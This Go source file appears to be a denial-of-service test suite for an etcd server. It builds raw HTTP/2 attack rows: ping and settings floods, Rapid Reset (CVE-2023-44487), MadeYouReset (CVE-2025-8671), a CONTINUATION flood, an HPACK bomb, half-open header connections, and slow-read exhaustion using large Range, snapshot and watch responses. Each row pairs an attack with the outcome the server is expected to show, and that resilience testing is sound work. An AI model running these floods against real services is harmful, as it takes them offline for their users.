package dos

import (
	"time"

	pb "go.etcd.io/etcd/api/v3/etcdserverpb"
	"golang.org/x/net/http2"
)

const (
	putPath   = "/etcdserverpb.KV/Put"
	rangePath = "/etcdserverpb.KV/Range"
	watchPath = "/etcdserverpb.Watch/Watch"
)

// rapidResetMust: a server may throw such a client out, or answer nothing and go on.
var rapidResetMust = atLeast(1000, "sent")

// frameRows are floods of frames. In each, every second connection reads nothing.
var frameRows = []row{
	{name: "ping flood", world: plain, attack: frames(func(w *wire) error {
		return w.framer.WritePing(false, [8]byte{1})
	}), must: atLeast(1000, "sent")},
	{name: "settings flood", world: plain, attack: frames(func(w *wire) error {
		return w.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
	}), must: atLeast(1000, "sent")},
	{name: "rapid reset (CVE-2023-44487)", world: plain, attack: rapidReset, must: rapidResetMust},
	{name: "rapid reset of open requests", world: plain, attack: frames(func(w *wire) error {
		id, err := w.begin(rangePath, false)
		if err != nil {
			return err
		}
		return w.framer.WriteRSTStream(id, http2.ErrCodeCancel)
	}), must: atLeast(1000, "sent")},
	{name: "made you reset (CVE-2025-8671)", world: plain, attack: frames(func(w *wire) error {
		id, err := w.begin(rangePath, false)
		if err != nil {
			return err
		}
		return w.framer.WriteWindowUpdate(id, 0)
	}), must: some("goaway", "reset", "thrown out", "closed")},
	{name: "CONTINUATION flood", world: plain, attack: continuations,
		must: some("goaway", "thrown out", "closed")},
	{name: "headers without end, silent", world: plain, attack: halfHeaders, seconds: 2,
		must: atLeast(1000, "connections")},
	{name: "window updates of 1", world: plain, attack: frames(func(w *wire) error {
		return w.framer.WriteWindowUpdate(0, 1)
	}), must: atLeast(1000, "sent")},
	{name: "window updates of 0", world: plain, attack: frames(func(w *wire) error {
		return w.framer.WriteWindowUpdate(0, 0)
	}), must: some("goaway", "thrown out", "closed")},
	{name: "empty DATA frames", world: plain, attack: emptyData, must: atLeast(1000, "sent")},
	{name: "priorities", world: plain, attack: frames(func(w *wire) error {
		w.next += 2
		return w.framer.WritePriority(w.next, http2.PriorityParam{StreamDep: w.next - 2, Weight: 1})
	}), must: atLeast(1000, "sent")},
	{name: "requests without end", world: plain, attack: halfRequests(nil),
		must: atLeast(1000, "sent")},
	{name: "requests with large headers without end", world: plain,
		attack: halfRequests([]string{"a", string(make([]byte, 8<<10))}),
		must:   some("sent", "closed")},
	{name: "headers of one byte that unpack (HPACK bomb)", world: plain, attack: packedHeaders,
		must: some("sent", "closed", "reset")},
	{name: "unknown methods", world: plain, attack: frames(func(w *wire) error {
		_, err := w.begin("/etcdserverpb.KV/Nothing", true)
		return err
	}), must: atLeast(1000, "sent")},
}

// frames floods with one thing.
func frames(one func(*wire) error) func(*attacker) {
	return func(a *attacker) { a.flood(8, nil, ear{}, one) }
}

func rapidReset(a *attacker) {
	a.flood(8, nil, ear{}, func(w *wire) error {
		id, err := w.begin(rangePath, true)
		if err != nil {
			return err
		}
		return w.framer.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// continuations begins headers and never ends them.
func continuations(a *attacker) {
	a.flood(8, nil, ear{}, func(w *wire) error {
		if w.next == 1 {
			w.next = 3
			return w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1,
				BlockFragment: w.fields(rangePath)})
		}
		w.block.Reset()
		for range 8 {
			// Never indexed, so that each counts with all its bytes.
			w.block.WriteString("\x10\x01a\x40")
			w.block.Write(make64)
		}
		return w.framer.WriteContinuation(1, false, w.block.Bytes())
	})
}

var make64 = []byte("bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb")

// halfHeaders has many connections that begin headers and say no more.
func halfHeaders(a *attacker) {
	a.begins()
	for range 2000 {
		w, err := a.open()
		if err != nil {
			a.note("connection refused")
			continue
		}
		_ = w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1,
			BlockFragment: w.fields(rangePath)})
		_ = w.out.Flush()
		a.note("connections")
		a.listen(w, ear{})
	}
	a.lingers()
}

// emptyData sends frames with nothing in them on one stream.
func emptyData(a *attacker) {
	a.flood(8, nil, ear{}, func(w *wire) error {
		if w.next == 1 {
			_, err := w.begin(watchPath, false)
			return err
		}
		return w.framer.WriteData(1, false, nil)
	})
}

// halfRequests opens streams whose requests never come.
func halfRequests(more []string) func(*attacker) {
	if more != nil {
		letters := []byte(more[1])
		for at := range letters {
			letters[at] = 'a'
		}
		more[1] = string(letters)
	}
	return frames(func(w *wire) error {
		_, err := w.begin(putPath, false, more...)
		return err
	})
}

// packedHeaders names a header of 4 KiB once, and from then on by one byte, 200 times a request.
func packedHeaders(a *attacker) {
	value := string(make4k)
	a.flood(8, nil, ear{}, func(w *wire) error {
		fields := w.fields(putPath, "bomb", value)
		if w.next > 1 {
			for range 200 {
				// The newest entry of the dynamic table, by its number.
				fields = append(fields, 0xbe)
			}
		}
		id := w.next
		w.next += 2
		return w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: fields,
			EndHeaders: true})
	})
}

var make4k = func() []byte {
	letters := make([]byte, 3000)
	for at := range letters {
		letters[at] = 'a'
	}
	return letters
}()

// heavyRows are about values of a mebibyte, of which there are heavyKeys.
var heavyRows = []row{
	{name: "answers of 1 MiB that nobody takes", world: heavy, attack: untaken(1),
		must: atLeast(100, "asked"), peak: 320},
	{name: "answers of 1 MiB, a byte at a time", world: heavy, attack: byteByByte,
		must: some("bytes heard")},
	{name: "answers of 64 MiB that nobody takes", world: heavy, attack: untaken(heavyKeys),
		must: atLeast(16, "asked"), peak: 320},
	{name: "snapshots that nobody takes", world: heavy, attack: slowSnapshots(64),
		must: atLeast(64, "asked")},
	{name: "600 snapshots that nobody takes", world: heavy, attack: slowSnapshots(600),
		must: atLeast(600, "asked")},
	{name: "watchers from the past that never read", world: heavy, attack: deafHistory,
		must: atLeast(200, "asked")},
}

// untaken asks for values and takes a byte of each answer.
func untaken(keys int) func(*attacker) {
	streams, end := 64, []byte(nil)
	if keys > 1 {
		streams, end = 4, []byte("heavy0")
	}
	return func(a *attacker) {
		a.begins()
		a.each(16, func(number int) {
			w, err := a.open(setting(http2.SettingInitialWindowSize, 1)...)
			if err != nil {
				a.note("connection refused")
				return
			}
			a.listen(w, ear{})
			for one := range streams {
				key := heavyKey((number + one) % heavyKeys)
				if end != nil {
					key = "heavy/"
				}
				_, err := w.call(rangePath, &pb.RangeRequest{Key: []byte(key), RangeEnd: end}, true)
				if err != nil || w.out.Flush() != nil {
					return
				}
				a.note("asked")
			}
		})
		a.lingers()
	}
}

// byteByByte lets an answer through one byte at a time.
func byteByByte(a *attacker) {
	a.flood(8, setting(http2.SettingInitialWindowSize, 1), ear{}, func(w *wire) error {
		if w.next == 1 {
			_, err := w.call(rangePath, &pb.RangeRequest{Key: []byte(heavyKey(0))}, true)
			return err
		}
		return w.framer.WriteWindowUpdate(1, 1)
	})
}

// slowSnapshots asks for the whole state so often and takes nothing of it.
func slowSnapshots(size int) func(*attacker) {
	return func(a *attacker) {
		a.begins()
		a.each(8, func(int) {
			w, err := a.open(setting(http2.SettingInitialWindowSize, 1)...)
			if err != nil {
				a.note("connection refused")
				return
			}
			a.listen(w, ear{})
			for range size / 8 {
				_, err := w.call("/etcdserverpb.Maintenance/Snapshot", &pb.SnapshotRequest{}, true)
				if err != nil || w.out.Flush() != nil {
					return
				}
				a.note("asked")
				time.Sleep(time.Millisecond)
			}
		})
		a.lingers()
	}
}

// deafHistory watches everything from many revisions on, and never reads.
func deafHistory(a *attacker) {
	a.begins()
	a.each(8, func(number int) {
		w, err := a.open(setting(http2.SettingInitialWindowSize, 1)...)
		if err != nil {
			a.note("connection refused")
			return
		}
		a.listen(w, ear{})
		for one := range 50 {
			request := watchFrom("heavy/", "heavy0", int64(2+(number*50+one)%heavyKeys))
			if _, err := w.call(watchPath, request, false); err != nil || w.out.Flush() != nil {
				return
			}
			a.note("asked")
		}
	})
	a.lingers()
}
